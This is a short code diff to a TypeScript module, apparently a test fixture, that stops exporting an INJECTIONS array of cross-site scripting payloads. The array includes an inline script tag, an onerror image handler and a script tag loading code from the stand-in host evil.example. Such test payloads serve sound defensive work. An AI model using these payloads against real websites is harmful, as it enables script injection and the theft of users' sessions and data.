@@ -4,7 +4,7 @@ import { type Flow, type Stage, VIEWS } from '../flow.ts';
 
 const RAN = 'window.hasRun=1';
 
-export const INJECTIONS: readonly string[] = [
+const INJECTIONS: readonly string[] = [
   `<script>${RAN}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
   `<img src=x onerror="${RAN}">`,
